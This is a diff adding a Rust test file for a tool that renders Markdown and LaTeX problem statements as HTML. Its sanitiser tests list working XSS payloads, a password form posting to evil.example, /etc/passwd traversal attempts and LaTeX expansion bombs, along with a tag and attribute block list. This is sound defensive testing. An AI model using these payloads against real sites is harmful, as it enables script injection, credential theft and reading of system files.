@@ -1,0 +1,327 @@
+//! Statements in Markdown and LaTeX, and what must never come out of them.
+
+// Helpers of tests may fail as tests do.
+#![allow(clippy::unwrap_used)]
+
+mod support;
+
+use assay_package::{Package, StatementBody};
+use support::{Fixture, html};
+
+/// The smallest PNG there is: one pixel.
+const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\x0f\0\0\x01\x01\0\x05\x18\xd8N\0\0\0\0IEND\xaeB`\x82";
+
+fn markdown(text: &str) -> Fixture {
+    Fixture::new().with("statement/problem.en.md", text).with("statement/map.png", PNG)
+}
+
+fn latex(text: &str) -> Package {
+    let fixture = Fixture::new()
+        .without("statement/problem.en.md")
+        .with("statement/problem.en.tex", text)
+        .with("statement/map.png", PNG)
+        .with("statement/part.tex", "From a \\emph{part}.")
+        .with("problem.yaml", "problem_format_version: legacy\nname: Sum\n");
+    fixture.read()
+}
+
+/// The HTML of a LaTeX statement that gives no warning.
+fn plain(text: &str) -> String {
+    let package = latex(text);
+    assert_eq!(package.warnings, [], "{text}");
+    html(&package).to_owned()
+}
+
+fn has(text: &str, parts: &[&str]) {
+    let html = plain(text);
+    for part in parts {
+        assert!(html.contains(part), "{part:?} is not in {html:?}");
+    }
+}
+
+#[test]
+fn markdown_becomes_html() {
+    let package =
+        markdown("# Input\n\nAn *integer* `n`.[^1]\n\n| a | b |\n|:-:|--:|\n| 1 | $x$ |\n\n[^1]: Or two.\n").read();
+    let html = html(&package);
+    for part in
+        ["<h2>Input</h2>", "<em>integer</em>", "<th align=\"center\">a</th>", "<td align=\"right\"><math", "Or two."]
+    {
+        assert!(html.contains(part), "{part:?} is not in {html}");
+    }
+}
+
+#[test]
+fn formulas_stand_in_their_places() {
+    let package = markdown("A $x$, then $$y + 1$$ and $x$ again.").read();
+    let html = html(&package);
+    assert_eq!(html.matches("<math").count(), 3);
+    assert!(!html.contains("<span"), "{html}");
+}
+
+#[test]
+fn a_formula_that_does_not_parse_stays_readable() {
+    let package = markdown("One.\n\nTwo $\\nosuch{1}$ three.\n").read();
+    assert!(html(&package).contains(r"<code>\nosuch{1}</code>"));
+    assert_eq!((package.warnings.len(), package.warnings[0].line), (1, Some(3)));
+}
+
+#[test]
+fn pictures_are_named_by_their_content() {
+    let text = "![a map](map.png)\n\n<img src=\"map.png\" width=\"50%\" onerror=\"alert(1)\">\n\n![gone](gone.png) ![far](https://example.org/x.png)\n";
+    let package = markdown(text).read();
+    let [file] = package.statements[0].files.as_slice() else { panic!("one file") };
+    assert_eq!((file.media_type, file.address.as_str()), ("image/png", format!("{}.png", file.sha256).as_str()));
+    let html = html(&package);
+    let source = format!("src=\"/statement-files/{}\"", file.address);
+    assert_eq!((html.matches("<img").count(), html.matches(&source).count()), (2, 2), "{html}");
+    assert!(html.contains("width=\"50%\"") && html.contains("alt=\"a map\"") && !html.contains("onerror"), "{html}");
+    let warnings: Vec<_> = package.warnings.iter().map(|warning| warning.line).collect();
+    assert_eq!(warnings, [Some(5), Some(5)]);
+}
+
+#[test]
+fn svg_that_runs_or_fetches_is_not_shown() {
+    let picture = |svg: &str| {
+        let package = markdown("![p](p.svg)\n").with("statement/p.svg", svg).read();
+        html(&package).contains("<img")
+    };
+    assert!(picture("<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/><text>only one on = it</text></svg>"));
+    for svg in [
+        "<svg><script>alert(1)</script></svg>",
+        "<svg onload=\"alert(1)\"></svg>",
+        "<svg><a href=\"javascript:alert(1)\"/></svg>",
+        "<svg><image href=\"https://example.org/x.png\"/></svg>",
+        "<svg><foreignObject/></svg>",
+        "<svg><rect style=\"fill:url(http://example.org)\"/></svg>",
+    ] {
+        assert!(!picture(svg), "{svg}");
+    }
+}
+
+#[test]
+fn samples_are_shown_where_the_text_asks() {
+    let text = "Before.\n\n{{nextsample}}\n\nBetween.\n\n{{remainingsamples}}\n";
+    let package = markdown(text).with("data/sample/2.in", "a\n\n  \nb < c\n").with("data/sample/2.ans", "d\n").read();
+    let html = html(&package);
+    let places = ["Before.", "1 2", "Between.", "a\n\n  \nb &lt; c"]
+        .map(|part| html.find(part).unwrap_or_else(|| panic!("{part} is not in {html}")));
+    assert!(places.is_sorted(), "{html}");
+    assert_eq!(package.statements[0].samples, ["sample/1", "sample/2"]);
+    let tex = latex("Before. \\nextsample After.");
+    assert!(support::html(&tex).contains("1 2") && tex.statements[0].samples == ["sample/1"]);
+    let twice = markdown("{{sample.1}} {{sample.7}}").read();
+    assert_eq!((twice.statements[0].samples.len(), twice.warnings.len()), (1, 1));
+}
+
+#[test]
+fn constants_are_put_into_their_places() {
+    let yaml =
+        "problem_format_version: 2025-09\nname: Sum\nuuid: 1\nconstants:\n  k: {value: 5, tex: '5\\,000'}\n  lim: 7\n";
+    let fixture = markdown("At most {{k}} and ${{k.tex}}$ and {{no}}.").with("problem.yaml", yaml);
+    let package = fixture
+        .with("include/default/limits.h", "int k = {{k}}, l = {{lim}};\n")
+        .with("include/default/plain.h", "")
+        .read();
+    assert!(html(&package).contains("At most 5 and") && html(&package).contains("{{no}}"));
+    let files = &package.plan.include[0].files;
+    assert_eq!(std::fs::read_to_string(&files[0].file).unwrap(), "int k = 5, l = 7;\n");
+    assert!(!files[0].file.starts_with(&package.root) && files[1].file.starts_with(&package.root));
+    drop(package.clone());
+    assert!(files[0].file.exists());
+}
+
+#[test]
+fn latex_text_becomes_html() {
+    has("One\ntwo.\n\nThree % not this\nfour.", &["<p>One two.</p>", "<p>Three four.</p>"]);
+    has("\\section*{Input \\& more}\\subsection{B}", &["<h2>Input &amp; more</h2>", "<h3>B</h3>"]);
+    has(
+        "``a'' --- `b' -- c\\ldots~d \\textit{e} {\\bf f} \\texttt{--``} 10\\%",
+        &["“a” — ‘b’ – c…&nbsp;d <em>e</em> <strong>f</strong> <code>--``</code> 10%"],
+    );
+    has("\\\"Osterg\\aa rd \\'e \\c{c} \\v s Nudg\\'emon {\\o}re Erd\\H{o}s", &["Östergård é ç š Nudgémon øre Erdős"]);
+    has(
+        "\\verb|a<b| \\url{https://e.org/a_b} \\href{https://e.org/?a=1\\&b=2}{there}",
+        &["<code>a&lt;b</code>", "href=\"https://e.org/a_b\"", "href=\"https://e.org/?a=1&amp;b=2\"", ">there</a>"],
+    );
+    has("a\\footnote{Note $x$.} b", &["a<sup>1</sup> b", "<li>Note <math"]);
+    has("\\begin{verbatim}\n  a % b\n\n\\x\n\\end{verbatim}", &["<pre><code>  a % b\n\n\\x</code></pre>"]);
+    has("\\begin{Input}x\\end{Input}", &["<h2>Input</h2>"]);
+    has("\\input{part}", &["From a <em>part</em>."]);
+    has("a\\\\b \\noindent c \\vspace{3mm} d \\hspace*{1cm}e \\vskip 2pt f", &["a<br>b c d e f"]);
+    has("\\num{1234567} and \\SI{5}{\\metre}", &["<math"]);
+    has("\\ifplastex yes \\else no \\fi end \\iffalse hidden \\fi", &["yes", "end"]);
+    assert!(!plain("\\ifplastex yes \\else no \\fi").contains("no"));
+}
+
+#[test]
+fn latex_macros_are_expanded() {
+    has(
+        "\\newcommand{\\maxn}{10^5}\\newcommand{\\who}[2][Ada]{#1 and #2}$\\maxn$ \\who{Bob} \\who[Eve]{Bob}",
+        &["<math", "Ada and Bob", "Eve and Bob"],
+    );
+    has("\\def\\x#1#2{<#2#1>}\\x ab \\x{c}{d}", &["&lt;ba&gt;", "&lt;dc&gt;"]);
+    has("\\def\\range#1..#2.{#1 to #2}\\range1..5.", &["1 to 5"]);
+    has("\\newenvironment{hint}[1]{\\textbf{#1:} }{!}\\begin{hint}{Tip}go\\end{hint}", &["<strong>Tip:</strong> go!"]);
+    has("\\newcommand{\\N}{\\mathbb{N}}\\newcommand{\\set}[1]{\\{#1\\}}$x \\in \\set{\\N}$", &["<math"]);
+}
+
+#[test]
+fn latex_lists_tables_and_figures_become_theirs() {
+    has(
+        "\\begin{itemize}\n\\item one\n\\item two\n\n more\n\\begin{enumerate}[(a)]\\item in\\end{enumerate}\n\\end{itemize}",
+        &["<ul>\n<li>one</li>", "<ol>\n<li>in</li>"],
+    );
+    has("\\begin{description}\\item[A] b\\end{description}", &["<dt>A</dt><dd>b</dd>"]);
+    let table = "\\begin{center}\\begin{tabular}{|l|c|r|}\\hline\na & $b$ & c\\\\ \\hline\n\\multicolumn{2}{c}{wide} & 1 \\\\\n\\end{tabular}\\end{center}";
+    has(
+        table,
+        &[
+            "<div class=\"center\"><table>",
+            "<td align=\"left\">a</td><td align=\"center\"><math",
+            "<td align=\"center\" colspan=\"2\">wide</td><td align=\"right\">1</td>",
+        ],
+    );
+    let figure = "See Figure~\\ref{fig:m}.\n\\begin{figure}[ht]\\centering\\includegraphics[width=0.5\\textwidth]{map}\\caption{The \\emph{map}}\\label{fig:m}\\end{figure}";
+    has(figure, &["See Figure&nbsp;1.", "width=\"50%\"", "<figcaption>Figure 1: The <em>map</em></figcaption>"]);
+    has(
+        "\\illustration{.3}{map.png}{By \\href{https://e.org}{me}}",
+        &["<figure class=\"illustration w-30\"><img src=\"/statement-files/", "<figcaption>By <a href"],
+    );
+    has("\\begin{align*}a &= b \\\\ c &= d\\end{align*}\\[x\\]\\(y\\)\\begin{equation}z\\end{equation}", &["<math"]);
+    has(
+        "\\[ f(x) = \\begin{cases} 0 & \\text{if } x < 0 \\\\ 1 & \\text{otherwise} \\end{cases} \\]",
+        &["<math display=\"block\""],
+    );
+}
+
+#[test]
+fn latex_titles_become_names() {
+    assert_eq!(
+        latex("\\problemname{Count von Walken's \\emph{Fence} $x^2$}\nText").name(),
+        "Count von Walken’s Fence x^2"
+    );
+    assert_eq!(latex("%% plainproblemname: Plain\n\\problemname{$x$}").name(), "Plain");
+    assert_eq!(latex("Text").name(), "Sum");
+}
+
+#[test]
+fn unknown_latex_keeps_its_text_and_says_so() {
+    let package = latex("One.\n\n\\fancy[x]{Two} \\begin{odd}three\\end{odd} \\fancy{four}");
+    assert!(["Two", "three", "four"].iter().all(|word| html(&package).contains(word)));
+    let warnings: Vec<_> = package.warnings.iter().map(|warning| (warning.file.as_str(), warning.line)).collect();
+    assert_eq!(warnings, [("statement/problem.en.tex", Some(3)), ("statement/problem.en.tex", Some(3))]);
+}
+
+#[test]
+fn latex_made_to_break_its_reader_comes_to_an_end() {
+    for text in [
+        "\\def\\a{\\a\\a}\\a".to_owned(),
+        "\\def\\a{\\b}\\def\\b{\\a}\\a".to_owned(),
+        "\\newcommand{\\a}{xxxxxxxxxx}\\newcommand{\\b}{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}".to_owned()
+            + "\\newcommand{\\c}{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\newcommand{\\d}{\\c\\c\\c\\c\\c\\c\\c\\c\\c\\c}\\d\\d\\d\\d\\d\\d\\d\\d\\d\\d\\d\\d\\d",
+        "{".repeat(100_000),
+        "}".repeat(100_000),
+        "\\begin{itemize}\\item ".repeat(5_000),
+        "\\textbf{".repeat(50_000),
+        "\\begin{tabular}{".repeat(5_000),
+        "\\begin{tabular}{*{99999}{*{99999}{l}}}a\\end{tabular}".to_owned(),
+        "\\footnote{".repeat(5_000),
+        "$".repeat(9_999),
+        "\\if".repeat(10_000),
+        "\\input{problem.en}".to_owned(),
+        "\\verb".to_owned(),
+        "\\begin".to_owned(),
+        "\\".to_owned(),
+        "%".to_owned(),
+        "\\newcommand".to_owned(),
+        "\\end{a}\\end{b}&&\\\\&\\item".to_owned(),
+        "\\begin{figure}\\caption{".to_owned(),
+    ] {
+        let package = latex(&text);
+        assert!(matches!(package.statements[0].body, StatementBody::Html(_)));
+    }
+}
+
+#[test]
+fn links_do_not_hand_over_the_window() {
+    let package =
+        markdown("[a](https://example.org/) [b](javascript:alert(1)) [c](/log-out) <https://example.org>").read();
+    let html = html(&package);
+    assert_eq!(html.matches("noopener").count(), html.matches("<a ").count());
+    assert_eq!(html.matches("href=").count(), 2);
+}
+
+#[test]
+fn hostile_markdown_stays_harmless() {
+    for text in [
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<style>body { display: none }</style>",
+        "<p style='position:fixed' onclick='alert(1)'>x</p>",
+        "<a href='jav&#x61;script:alert(1)'>x</a>",
+        "<a href=' javascript:alert(1)'>x</a>",
+        "[x](data:text/html;base64,PHNjcmlwdD4=)",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg onload=alert(1)>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+        "<form action='https://evil.example'><input name=password><button>x</button></form>",
+        "<object data=x></object><embed src=x>",
+        "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
+        "<div title=\"\n\n$\\text{\" onmouseover=alert(1) x=}$\n\n\">x</div>",
+        "<div title='\n\n$x$\n\n'>x</div>",
+        "<textarea>\n\n$x$</textarea><script>alert(1)</script>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "$\\text{</mtext></math><script>alert(1)</script>}$",
+        "`</code><script>alert(1)</script>`",
+        "```\"><script>alert(1)</script>\nx\n```",
+        "<!--><script>alert(1)</script>-->",
+        "<img src='https://evil.example/x.png'> ![x](//evil.example/x.png)",
+        "<img src=\"map.png\" alt=\"\"onerror=alert(1) x=\"\">",
+    ] {
+        harmless(html(&markdown(text).read()), text);
+    }
+}
+
+#[test]
+fn hostile_latex_stays_harmless() {
+    for text in [
+        "<script>alert(1)</script>",
+        "\\href{javascript:alert(1)}{x}",
+        "\\href{https://e.org/\" onclick=\"alert(1)}{x}",
+        "\\url{javascript:alert(1)}",
+        "\\texttt{<img src=x onerror=alert(1)>}",
+        "\\verb|<script>alert(1)</script>|",
+        "\\begin{verbatim}</code></pre><script>alert(1)</script>\\end{verbatim}",
+        "\\includegraphics{https://evil.example/x.png}",
+        "\\includegraphics{../../../../etc/passwd}",
+        "\\includegraphics[width=\"onerror=alert(1)]{map}",
+        "\\input{/etc/passwd}\\input{../problem.yaml}",
+        "$\\href{javascript:alert(1)}{x}$",
+        "$\\text{</math><script>alert(1)</script>}$",
+        "\\caption{<script>alert(1)</script>}",
+        "\\section{<svg onload=alert(1)>}",
+        "\\problemname{<script>alert(1)</script>}",
+    ] {
+        let package = latex(text);
+        harmless(html(&package), text);
+        assert!(!html(&package).contains("root:"), "{text}");
+    }
+}
+
+/// What is left as text is escaped: only real tags and attributes count.
+fn harmless(html: &str, text: &str) {
+    for tag in html.split('<').skip(1) {
+        let tag = tag.split('>').next().unwrap_or_default().to_ascii_lowercase();
+        let name = tag.split([' ', '/']).find(|part| !part.is_empty()).unwrap_or_default();
+        let banned = ["script", "style", "svg", "iframe", "form", "input", "object", "embed", "meta", "base"];
+        assert!(!banned.contains(&name), "{text}\n{html}");
+        let outside_values: String = tag.split('"').step_by(2).collect::<Vec<_>>().join("\"");
+        for attribute in [" on", "style=", "javascript:", "data:", "srcdoc"] {
+            assert!(!outside_values.contains(attribute), "{text}\n{html}");
+        }
+        assert!(!tag.contains("href=\"javascript") && !tag.contains("href=\"data"), "{text}\n{html}");
+        assert!(name != "img" || tag.contains("src=\"/statement-files/"), "{text}\n{html}");
+    }
+}
